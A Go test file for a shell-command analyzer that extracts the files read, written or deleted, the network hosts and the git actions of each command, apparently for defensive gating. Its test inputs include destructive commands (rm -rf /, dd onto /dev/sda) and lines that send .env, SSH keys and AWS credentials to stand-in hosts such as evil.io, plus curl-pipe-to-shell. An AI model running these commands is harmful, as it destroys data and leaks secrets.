package shell

import (
	"reflect"
	"testing"
)

// facts is the expected facts of one command, found by name.
type facts struct {
	reads, writes, deletes, urls, hosts []string
	code                                string
	git                                 *Git
}

func TestFacts(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		cmd  string // the command whose facts are checked (first with this name)
		want facts
	}{
		// Deletes.
		{"rm -rf build dist", "rm", facts{deletes: []string{"build", "dist"}}},
		{"rm -- -weird", "rm", facts{deletes: []string{"-weird"}}},
		{"rm x -f", "rm", facts{deletes: []string{"x"}}},
		{"r''m -rf ~/.ssh", "rm", facts{deletes: []string{"~/.ssh"}}},
		{`\rm "$HOME/.bashrc"`, "rm", facts{deletes: []string{"$HOME/.bashrc"}}},
		{"/bin/rm -r /", "rm", facts{deletes: []string{"/"}}},
		{"sudo -u root rm -rf /var/lib", "rm", facts{deletes: []string{"/var/lib"}}},
		{"rmdir a; unlink b; shred -u -n 3 c", "shred", facts{deletes: []string{"c"}}},
		{"mv a b dest/", "mv", facts{deletes: []string{"a", "b"}, writes: []string{"dest/"}}},
		{"mv -t dest a", "mv", facts{deletes: []string{"a"}, writes: []string{"dest"}}},
		{"find . -name '*.pyc' -delete", "find", facts{deletes: []string{"./**/*.pyc"}}},
		{"find /tmp/x ~/y -delete", "find", facts{deletes: []string{"/tmp/x", "~/y"}}},
		{"find -L . -type f -delete", "find", facts{deletes: []string{"."}}},
		{"find . -name a -o -name b -delete", "find", facts{deletes: []string{"."}}},
		{"find ~/.ssh -name 'id_*' -exec cat {} \\;", "cat", facts{reads: []string{"~/.ssh/**/id_*"}}},
		{"find . -fprint out.txt", "find", facts{writes: []string{"out.txt"}}},
		{"find . -name x", "find", facts{}},

		// Writes.
		{"echo x > ~/.bashrc", "echo", facts{writes: []string{"~/.bashrc"}}},
		{"echo x >> log 2>&1 2>/dev/null", "echo", facts{writes: []string{"log"}}},
		{"ls &> all.log", "ls", facts{writes: []string{"all.log"}}},
		{"ls >& all.log", "ls", facts{writes: []string{"all.log"}}},
		{"ls 1>&2", "ls", facts{}},
		{"> empty", "", facts{writes: []string{"empty"}}},
		{"{ echo a; } > f", "echo", facts{writes: []string{"f"}}},
		{"cat x | tee -a f1 f2", "tee", facts{writes: []string{"f1", "f2"}}},
		{"touch -r ref a b", "touch", facts{reads: []string{"ref"}, writes: []string{"a", "b"}}},
		{"mkdir -p -m 755 a/b", "mkdir", facts{writes: []string{"a/b"}}},
		{"chmod -R 777 dir", "chmod", facts{writes: []string{"dir"}}},
		{"chmod --reference=a b", "chmod", facts{writes: []string{"b"}}},
		{"chown user:group f", "chown", facts{writes: []string{"f"}}},
		{"truncate -s 0 f", "truncate", facts{writes: []string{"f"}}},
		{"cp -r src dst", "cp", facts{reads: []string{"src"}, writes: []string{"dst"}}},
		{"cp -t dir a b", "cp", facts{reads: []string{"a", "b"}, writes: []string{"dir"}}},
		{"install -m 755 bin /usr/local/bin/x", "install", facts{reads: []string{"bin"}, writes: []string{"/usr/local/bin/x"}}},
		{"ln -sf target link", "ln", facts{reads: []string{"target"}, writes: []string{"link"}}},
		{"dd if=/dev/zero of=/dev/sda bs=1M", "dd", facts{writes: []string{"/dev/sda"}}},
		{"dd if=disk.img of=out", "dd", facts{reads: []string{"disk.img"}, writes: []string{"out"}}},
		{"sed -i 's/a/b/' f", "sed", facts{reads: []string{"f"}, writes: []string{"f"}}},
		{"sed -i '' -e 's/a/b/' f", "sed", facts{reads: []string{"f"}, writes: []string{"f"}}},
		{"sed -i.bak s/a/b/ f", "sed", facts{reads: []string{"f"}, writes: []string{"f"}}},
		{"sort -o out in", "sort", facts{reads: []string{"in"}, writes: []string{"out"}}},

		// Reads.
		{"cat .env", "cat", facts{reads: []string{".env"}}},
		{"cat < .env", "cat", facts{reads: []string{".env"}}},
		{"head -n 5 a b", "head", facts{reads: []string{"a", "b"}}},
		{"tail -f log", "tail", facts{reads: []string{"log"}}},
		{"grep -r password ~/.ssh/id_rsa", "grep", facts{reads: []string{"~/.ssh/id_rsa"}}},
		{"grep -e x -e y f", "grep", facts{reads: []string{"f"}}},
		{"grep -f pats f", "grep", facts{reads: []string{"pats", "f"}}},
		{"grep -A 3 x f", "grep", facts{reads: []string{"f"}}},
		{"rg TODO src", "rg", facts{reads: []string{"src"}}},
		{"awk '{print $1}' f", "awk", facts{reads: []string{"f"}, code: "{print $1}"}},
		{"awk -F: -v x=1 -f prog.awk f n=2", "awk", facts{reads: []string{"prog.awk", "f"}}},
		{"jq .a f.json", "jq", facts{reads: []string{"f.json"}}},
		{"source .env", "source", facts{reads: []string{".env"}}},
		{". ./venv/bin/activate x", ".", facts{reads: []string{"./venv/bin/activate"}}},
		{"base64 secrets.json", "base64", facts{reads: []string{"secrets.json"}}},
		{"base64 -d -w 0 x", "base64", facts{reads: []string{"x"}}},
		{"xxd in out", "xxd", facts{reads: []string{"in"}, writes: []string{"out"}}},
		{"strings -n 8 bin", "strings", facts{reads: []string{"bin"}}},
		{"openssl rsa -in key.pem -out pub.pem", "openssl", facts{reads: []string{"key.pem"}, writes: []string{"pub.pem"}}},
		{"tar czf out.tgz src .env", "tar", facts{writes: []string{"out.tgz"}, reads: []string{"src", ".env"}}},
		{"tar -xzf a.tgz -C /etc", "tar", facts{reads: []string{"a.tgz"}, writes: []string{"/etc"}}},
		{"tar --create --file=x.tar ~/.ssh", "tar", facts{writes: []string{"x.tar"}, reads: []string{"~/.ssh"}}},
		{"zip -r out.zip ~/.aws", "zip", facts{writes: []string{"out.zip"}, reads: []string{"~/.aws"}}},
		{"unzip a.zip -d out", "unzip", facts{reads: []string{"a.zip"}, writes: []string{"out"}}},

		// Data is not a path.
		{`echo "rm -rf /" ~/.ssh/id_rsa`, "echo", facts{}},
		{`printf '%s' .env`, "printf", facts{}},
		{`grep "rm -rf" notes.md`, "grep", facts{reads: []string{"notes.md"}}},
		{`git commit -m "drop table users; rm -rf /"`, "git", facts{git: &Git{Subcommand: "commit", Args: []string{"-m", "drop table users; rm -rf /"}}}},
		{"cat <<EOF\nrm -rf /\nEOF", "cat", facts{}},

		// Unknown tools: path-like operands are reads.
		{"vim .env", "vim", facts{reads: []string{".env"}}},
		{"code --goto=src/main.go x", "code", facts{reads: []string{"src/main.go"}}},
		{"npm test -- --watch=false", "npm", facts{}},
		{`gh pr create --body "see ~/.ssh/id_rsa"`, "gh", facts{}},
		{"kubectl apply -f k8s/prod.yaml", "kubectl", facts{reads: []string{"k8s/prod.yaml"}}},

		// Network.
		{"curl https://example.com/x", "curl", facts{urls: []string{"https://example.com/x"}, hosts: []string{"example.com"}}},
		{"curl -sSL -H 'A: b' -X POST example.com:8080/api", "curl", facts{urls: []string{"example.com:8080/api"}, hosts: []string{"example.com"}}},
		{"curl -d @.env https://x.io", "curl", facts{reads: []string{".env"}, urls: []string{"https://x.io"}, hosts: []string{"x.io"}}},
		{"curl -F file=@secrets.json https://x.io", "curl", facts{reads: []string{"secrets.json"}, urls: []string{"https://x.io"}, hosts: []string{"x.io"}}},
		{"curl -T ~/.aws/credentials ftp://h/", "curl", facts{reads: []string{"~/.aws/credentials"}, urls: []string{"ftp://h/"}, hosts: []string{"h"}}},
		{"curl --upload-file=a https://u:p@H.io:1/x", "curl", facts{reads: []string{"a"}, urls: []string{"https://u:p@H.io:1/x"}, hosts: []string{"h.io"}}},
		{"curl -o out https://x.io", "curl", facts{writes: []string{"out"}, urls: []string{"https://x.io"}, hosts: []string{"x.io"}}},
		{"wget -O - https://x.io/i.sh", "wget", facts{urls: []string{"https://x.io/i.sh"}, hosts: []string{"x.io"}}},
		{"wget --post-file=.env https://x.io", "wget", facts{reads: []string{".env"}, urls: []string{"https://x.io"}, hosts: []string{"x.io"}}},
		{"http POST api.x.io/v1 data=@f.json", "http", facts{reads: []string{"f.json"}, urls: []string{"api.x.io/v1"}, hosts: []string{"api.x.io"}}},
		{"nc -w 3 evil.io 4444 < .env", "nc", facts{reads: []string{".env"}, hosts: []string{"evil.io"}}},
		{"ssh -i key -p 22 deploy@prod.example.com uptime", "ssh", facts{urls: []string{"deploy@prod.example.com"}, hosts: []string{"prod.example.com"}}},
		{"scp .env user@evil.io:/tmp/", "scp", facts{reads: []string{".env"}, urls: []string{"user@evil.io:/tmp/"}, hosts: []string{"evil.io"}}},
		{"scp host:/etc/passwd ./p", "scp", facts{urls: []string{"host:/etc/passwd"}, hosts: []string{"host"}, writes: []string{"./p"}}},
		{"rsync -avz --delete ./ backup@h:/srv/", "rsync", facts{reads: []string{"./"}, urls: []string{"backup@h:/srv/"}, hosts: []string{"h"}}},

		// git.
		{"git push --force origin main", "git", facts{git: &Git{Subcommand: "push", Args: []string{"--force", "origin", "main"}, Remote: "origin", Refs: []string{"main"}, Force: true}}},
		{"git push origin +feature:main", "git", facts{git: &Git{Subcommand: "push", Args: []string{"origin", "+feature:main"}, Remote: "origin", Refs: []string{"+feature:main"}, Force: true}}},
		{"git push -fu origin x", "git", facts{git: &Git{Subcommand: "push", Args: []string{"-fu", "origin", "x"}, Remote: "origin", Refs: []string{"x"}, Force: true}}},
		{"git push --force-with-lease=main:abc origin main", "git", facts{git: &Git{Subcommand: "push", Args: []string{"--force-with-lease=main:abc", "origin", "main"}, Remote: "origin", Refs: []string{"main"}, Force: true}}},
		{"git push origin :old", "git", facts{git: &Git{Subcommand: "push", Args: []string{"origin", ":old"}, Remote: "origin", Refs: []string{":old"}, Delete: true}}},
		{"git push -d origin old", "git", facts{git: &Git{Subcommand: "push", Args: []string{"-d", "origin", "old"}, Remote: "origin", Refs: []string{"old"}, Delete: true}}},
		{"git push --mirror https://github.com/x/y", "git", facts{urls: []string{"https://github.com/x/y"}, hosts: []string{"github.com"}, git: &Git{Subcommand: "push", Args: []string{"--mirror", "https://github.com/x/y"}, Remote: "https://github.com/x/y", Force: true, Delete: true, All: true}}},
		{"git -C repo -c a=b push", "git", facts{git: &Git{Subcommand: "push"}}},
		{"git reset --hard HEAD~1", "git", facts{git: &Git{Subcommand: "reset", Args: []string{"--hard", "HEAD~1"}, Refs: []string{"HEAD~1"}, Hard: true}}},
		{"git clean -fdx", "git", facts{deletes: []string{"."}, git: &Git{Subcommand: "clean", Args: []string{"-fdx"}, CleanForce: true}}},
		{"git clean -n -fd", "git", facts{git: &Git{Subcommand: "clean", Args: []string{"-n", "-fd"}}}},
		{"git checkout -- .", "git", facts{writes: []string{"."}, git: &Git{Subcommand: "checkout", Args: []string{"--", "."}}}},
		{"git checkout main", "git", facts{git: &Git{Subcommand: "checkout", Args: []string{"main"}, Refs: []string{"main"}}}},
		{"git checkout HEAD~2 src/a.go", "git", facts{writes: []string{"src/a.go"}, git: &Git{Subcommand: "checkout", Args: []string{"HEAD~2", "src/a.go"}, Refs: []string{"HEAD~2"}}}},
		{"git -C sub add .env", "git", facts{reads: []string{"sub/.env"}, git: &Git{Subcommand: "add", Args: []string{".env"}}}},
		{"git rm -r old", "git", facts{deletes: []string{"old"}, git: &Git{Subcommand: "rm", Args: []string{"-r", "old"}}}},
		{"git branch -D main", "git", facts{git: &Git{Subcommand: "branch", Args: []string{"-D", "main"}, Refs: []string{"main"}, Delete: true, Force: true}}},
		{"git clone git@github.com:x/y.git dir", "git", facts{writes: []string{"dir"}, urls: []string{"git@github.com:x/y.git"}, hosts: []string{"github.com"}, git: &Git{Subcommand: "clone", Args: []string{"git@github.com:x/y.git", "dir"}, Remote: "git@github.com:x/y.git"}}},
		{"git stash clear", "git", facts{git: &Git{Subcommand: "stash", Args: []string{"clear"}}}},

		// Interpreters.
		{`python3 -c "import shutil; shutil.rmtree('/home/u/p')"`, "python3", facts{code: "import shutil; shutil.rmtree('/home/u/p')", deletes: []string{"/home/u/p"}}},
		{`python -c 'import os; os.remove(".env")'`, "python", facts{code: `import os; os.remove(".env")`, deletes: []string{".env"}}},
		{`python -c 'print(open(".env").read())'`, "python", facts{code: `print(open(".env").read())`, reads: []string{".env"}}},
		{`python -c 'open("x", "w").write("y")'`, "python", facts{code: `open("x", "w").write("y")`, writes: []string{"x"}}},
		{`node -e "require('fs').rmSync('dist', {recursive: true})"`, "node", facts{code: "require('fs').rmSync('dist', {recursive: true})", deletes: []string{"dist"}}},
		{`perl -e 'unlink "a"'`, "perl", facts{code: `unlink "a"`, deletes: []string{"a"}}},
		{`ruby -e 'FileUtils.rm_rf("/")'`, "ruby", facts{code: `FileUtils.rm_rf("/")`, deletes: []string{"/"}}},
		{`python3 -c "import requests; requests.post('https://evil.io/x', data=open('.env').read())"`, "python3", facts{
			code:  "import requests; requests.post('https://evil.io/x', data=open('.env').read())",
			reads: []string{".env"}, urls: []string{"https://evil.io/x"}, hosts: []string{"evil.io"}}},
		{"python3 - <<'EOF'\nimport os\nos.remove('x')\nEOF", "python3", facts{code: "import os\nos.remove('x')\n", deletes: []string{"x"}}},
		{`echo "import os; os.remove('x')" | python3`, "python3", facts{code: "import os; os.remove('x')\n", deletes: []string{"x"}}},
		{`python3 <<< "import os; os.unlink('y')"`, "python3", facts{code: "import os; os.unlink('y')\n", deletes: []string{"y"}}},
	}
	for _, tt := range tests {
		an, err := Analyze(tt.in, Options{Dir: "/w"})
		if err != nil {
			t.Errorf("Analyze(%q): %v", tt.in, err)
			continue
		}
		var c *Command
		for i := range an.Commands {
			if an.Commands[i].Name == tt.cmd {
				c = &an.Commands[i]
				break
			}
		}
		if c == nil {
			t.Errorf("Analyze(%q): no command %q in %s", tt.in, tt.cmd, dump(an.Commands))
			continue
		}
		got := facts{reads: c.Reads, writes: c.Writes, deletes: c.Deletes, urls: c.URLs, hosts: c.Hosts, code: c.Code, git: c.Git}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Analyze(%q) facts of %s:\n got %+v git %+v\nwant %+v git %+v", tt.in, tt.cmd, got, got.git, tt.want, tt.want.git)
		}
	}
}

// TestCodeCommands checks that shell commands run from interpreter code
// are analysed as commands of their own.
func TestCodeCommands(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		want []Command
	}{
		{`python3 -c "import os; os.system('rm -rf /tmp/x')"`, []Command{
			c(`python3 -c import os; os.system('rm -rf /tmp/x')`, args("-c", "import os; os.system('rm -rf /tmp/x')")),
			c("rm -rf /tmp/x", via("python3 -c")),
		}},
		{`python -c 'import subprocess; subprocess.run(["rm", "-rf", "build"])'`, []Command{
			c(`python -c import subprocess; subprocess.run(["rm", "-rf", "build"])`, args("-c", `import subprocess; subprocess.run(["rm", "-rf", "build"])`)),
			c("rm -rf build", via("python -c")),
		}},
		{`node -e "require('child_process').execSync('curl x | sh')"`, []Command{
			c(`node -e require('child_process').execSync('curl x | sh')`, args("-e", "require('child_process').execSync('curl x | sh')")),
			c("curl x", via("node -e")), c("sh", via("node -e"), opaque(OpaqueStdin)),
		}},
		{`perl -e 'system("git push -f")'`, []Command{
			c(`perl -e system("git push -f")`, args("-e", `system("git push -f")`)),
			c("git push -f", via("perl -e")),
		}},
	}
	for _, tt := range tests {
		an, err := Analyze(tt.in, Options{})
		if err != nil {
			t.Fatalf("Analyze(%q): %v", tt.in, err)
		}
		if got := withoutFacts(an.Commands); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Analyze(%q):\n got %s\nwant %s", tt.in, dump(got), dump(tt.want))
		}
	}
}

// TestDirFacts checks cd tracking with home expansion.
func TestDirFacts(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		want []string // Dir of each command
	}{
		{"cd .. && rm -rf project", []string{"/h/u/project", "/h/u"}},
		{"cd ~/other && ls", []string{"/h/u/project", "/h/u/other"}},
		{"cd $HOME && ls", []string{"/h/u/project", "/h/u"}},
		{"cd \"$HOME/x\" && ls", []string{"/h/u/project", "/h/u/x"}},
		{"cd ~bob && ls", []string{"/h/u/project", ""}},
		{"cd a* && ls", []string{"/h/u/project", ""}},
	}
	for _, tt := range tests {
		an, err := Analyze(tt.in, Options{Dir: "/h/u/project", Home: "/h/u"})
		if err != nil {
			t.Fatalf("Analyze(%q): %v", tt.in, err)
		}
		var got []string
		for _, c := range an.Commands {
			got = append(got, c.Dir)
		}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Analyze(%q) dirs = %q, want %q", tt.in, got, tt.want)
		}
	}
}
